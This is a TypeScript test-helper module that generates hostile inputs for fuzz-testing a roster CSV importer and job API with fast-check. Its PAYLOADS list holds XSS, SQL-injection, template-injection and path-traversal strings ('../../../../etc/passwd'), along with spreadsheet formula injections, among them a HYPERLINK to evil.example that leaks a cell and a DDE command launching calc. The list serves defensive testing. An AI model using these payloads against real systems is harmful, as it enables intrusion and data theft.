import fc from 'fast-check';

/**
 * Shared pieces of the hostile-input suite: one fixed seed (override with
 * SEATCTL_FC_SEED to explore, or to replay a failure fast-check reported), the case
 * count each file logs, and the strings people and apps really send that break code:
 * markup, control characters, bidi overrides, look-alike letters, formula prefixes,
 * NUL bytes and very long values.
 */
export const SEED = process.env.SEATCTL_FC_SEED ? Number(process.env.SEATCTL_FC_SEED) : 20_260_607;

/** fast-check settings for one property: fixed seed, the given number of runs, a readable failure. */
export function fcOptions(numRuns: number): fc.Parameters<unknown> {
  return { seed: SEED, numRuns, endOnFailure: true, verbose: 1 };
}

/** What each file prints so the total case count is visible in the test output. */
export function logCases(file: string, property: string, ran: number): void {
  console.log(`[hostile] ${file} › ${property}: ${ran} generated cases (seed ${SEED}; re-run with SEATCTL_FC_SEED=${SEED})`);
}

/** Characters that have broken parsers, terminals, spreadsheets and HTML before. */
export const NASTY_CHARS = [
  '\u0000', '\u0001', '\u0007', '\b', '\t', '\n', '\r', '\u000b', '\f', '\u001b', '\u007f', '\u0085',
  '\u00a0', '\u200b', '\u200d', '\u2028', '\u2029', '\u202e', '\u2066', '\ufeff', '\ufffd', '\ud83d\ude00',
  '<', '>', '&', '"', "'", '`', '\\', '/', '%', '$', '{', '}', '=', '+', '-', '@', ',', ';', ':', ' ',
  'а', 'е', 'о', 'і', 'ѕ', // Cyrillic look-alikes of a e o i s
];

export const nastyString = (maxLength = 40): fc.Arbitrary<string> =>
  fc.oneof(
    fc.string({ unit: fc.constantFrom(...NASTY_CHARS), maxLength }),
    fc.string({ unit: 'binary', maxLength }),
    fc.string({ maxLength }),
  );

/** Markup and formula payloads as they arrive from a hostile account name or roster cell. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'; DROP TABLE jobs; --",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=cmd|\' /C calc\'!A0',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '{{constructor.constructor("alert(1)")()}}',
  '${process.exit(1)}',
  '__proto__',
  'constructor',
  '\u202egnp.exe',
  '../../../../etc/passwd',
  '%2e%2e%2f%2e%2e%2f',
];

export const hostileString = (maxLength = 40): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: nastyString(maxLength) },
    { weight: 2, arbitrary: fc.constantFrom(...PAYLOADS) },
    { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 12_000 }).map((n) => 'x'.repeat(n)) },
  );

/** A stack trace line, as Node prints one: never shown to a user. */
export const STACK_LINE = /\n\s+at .+(\(|:\d+:\d+)/;

// ------------------------------------------------------------------ roster CSVs

export interface RosterRowSpec {
  email: string;
  name: string;
  status: string;
  terminationDate: string;
  manager: string;
}

const EMAILS = ['jdoe@example.com', 'asmith@example.com', 'JDoe@Example.COM', 'a.smith+hr@example.com', 'jdoе@example.com', 'samlsam@example.com', 'x@y', 'no-at-sign', '', ' pad@example.com ', '<jdoe@example.com>', 'a,b@example.com'];
const STATUSES = ['active', 'terminated', 'Active', 'TERMINATED', 'on leave', '', ' active '];
const DATES = ['', '2020-01-31', '2099-12-31', '2026-02-30', '31/01/2026', '2026-1-1', '=TODAY()'];

const cellText = (pool: string[]): fc.Arbitrary<string> =>
  fc.oneof({ weight: 5, arbitrary: fc.constantFrom(...pool) }, { weight: 2, arbitrary: hostileString(30) }, { weight: 1, arbitrary: fc.integer({ min: 990, max: 3000 }).map((n) => 'n'.repeat(n)) });

export const rosterRowArb: fc.Arbitrary<RosterRowSpec> = fc.record({
  email: cellText(EMAILS),
  name: cellText(['John Doe', 'Smith, Alice', 'Bob "The Builder"', '<script>alert(1)</script>', '=HYPERLINK("x")', 'Ann\nMarie']),
  status: cellText(STATUSES),
  terminationDate: cellText(DATES),
  manager: cellText(['', 'boss@example.com', '@mention', '+15551234']),
});

/** A row that parses: valid email (made unique by the caller), status and date; markup, formulas and control characters in name and manager. */
export const cleanRosterRowArb: fc.Arbitrary<RosterRowSpec> = fc.record({
  email: fc.constantFrom('jdoe', 'asmith', 'JDoe', 'a.smith+hr', 'jdoе', 'o\'brien').map((l) => `${l}@example.com`),
  name: fc.oneof(fc.constantFrom('John Doe', 'Smith, Alice', 'Bob "The Builder"', '<script>alert(1)</script>', '=HYPERLINK("x")', 'Ann\nMarie', '\u202eevil'), nastyString(30)),
  status: fc.constantFrom('active', 'terminated', 'Active', ' TERMINATED '),
  terminationDate: fc.constantFrom('', '2020-01-31', '2099-12-31'),
  manager: fc.oneof(fc.constantFrom('', 'boss@example.com', '=1+1', '@mention'), nastyString(20)),
});

/** One CSV cell, quoted or not; `broken` quoting is allowed to produce invalid CSV on purpose. */
export const csvCellArb = (value: string): fc.Arbitrary<string> =>
  fc.constantFrom('raw', 'quoted', 'quoted', 'broken-open', 'broken-after').map((mode) => {
    if (mode === 'quoted') return `"${value.replace(/"/g, '""')}"`;
    if (mode === 'broken-open') return `"${value}`;
    if (mode === 'broken-after') return `"${value.replace(/"/g, '""')}"x`;
    return value;
  });

const HEADERS = ['email', 'name', 'status', 'termination_date', 'manager', 'Email Address', 'Full Name', 'Termination Date', 'extra', '', 'EMAIL', 'status'];

/** A roster file as HR might send one, or worse: random header order, quoting, BOM, line ends, ragged rows. */
export const rosterCsvArb: fc.Arbitrary<string> = fc
  .record({
    header: fc.oneof(fc.constant<string[]>(['email', 'name', 'status', 'termination_date', 'manager']), fc.constant<string[]>(['Email Address', 'status', 'Full Name', 'manager']), fc.shuffledSubarray(HEADERS, { minLength: 0, maxLength: 7 })) as fc.Arbitrary<string[]>,
    rows: fc.oneof(
      fc.array(rosterRowArb, { maxLength: 8 }),
      fc.array(cleanRosterRowArb, { minLength: 1, maxLength: 8 }).map((rows) => rows.map((r, i) => ({ ...r, email: r.email.replace('@', `.${i}@`) }))),
    ),
    bom: fc.boolean(),
    eol: fc.constantFrom('\n', '\r\n', '\r'),
    finalEol: fc.boolean(),
    blankLines: fc.boolean(),
    ragged: fc.oneof(fc.constant([]), fc.array(fc.integer({ min: -2, max: 2 }), { maxLength: 8 })),
    quoting: fc.array(fc.constantFrom('none', 'all', 'all', 'random'), { minLength: 1, maxLength: 1 }),
    seed: fc.nat(),
  })
  .chain((r) => {
    const fieldOf: Record<string, keyof RosterRowSpec> = { email: 'email', name: 'name', status: 'status', termination_date: 'terminationDate', manager: 'manager', 'email address': 'email', 'full name': 'name', 'termination date': 'terminationDate' };
    const lines = r.rows.map((row, i) => {
      const cells = r.header.map((h) => row[fieldOf[h.toLowerCase()] ?? 'manager']);
      const extra = r.ragged[i] ?? 0;
      return extra >= 0 ? [...cells, ...Array.from({ length: extra }, () => 'x')] : cells.slice(0, Math.max(0, cells.length + extra));
    });
    const all: string[][] = [r.header, ...lines];
    const quote = (v: string, i: number) =>
      r.quoting[0] === 'all' || /[",\r\n]/.test(v) ? fc.constant(`"${v.replace(/"/g, '""')}"`) : r.quoting[0] === 'random' && (r.seed + i) % 5 === 0 ? csvCellArb(v) : fc.constant(v);
    return fc.tuple(...all.map((cells, li) => fc.tuple(...cells.map((c, ci) => quote(c, li * 31 + ci))).map((cs) => cs.join(',')))).map((rendered) => {
      const body = rendered.join(r.blankLines ? r.eol + r.eol : r.eol);
      return (r.bom ? '\ufeff' : '') + body + (r.finalEol ? r.eol : '');
    });
  });

// ------------------------------------------------------------------ documented request rules

/**
 * Whether POST /v1/jobs takes this address, by the rule docs/openapi.json documents for
 * `email` (at most 320 characters; ASCII dot-separated local parts of letters, digits
 * and `_'+-`, none empty, not ending in `'`; an ASCII domain with a 2+ letter TLD),
 * written out by hand so tests do not use seatctl's own schema as their oracle.
 */
export function documentedEmail(email: string): boolean {
  const at = email.lastIndexOf('@');
  if (at < 0) return false;
  const local = email.slice(0, at);
  const domain = email.slice(at + 1);
  return (
    email.length <= 320 &&
    local.split('.').every((part) => /^[A-Za-z0-9_'+-]+$/.test(part)) &&
    !local.endsWith("'") &&
    /^([A-Za-z0-9][A-Za-z0-9-]*\.)+[A-Za-z]{2,}$/.test(domain)
  );
}

/** docs/openapi.json `idempotencyKey`: 1 to 200 printable ASCII characters, no spaces. */
export const documentedIdempotencyKey = (key: string): boolean => /^[\x21-\x7e]{1,200}$/.test(key);
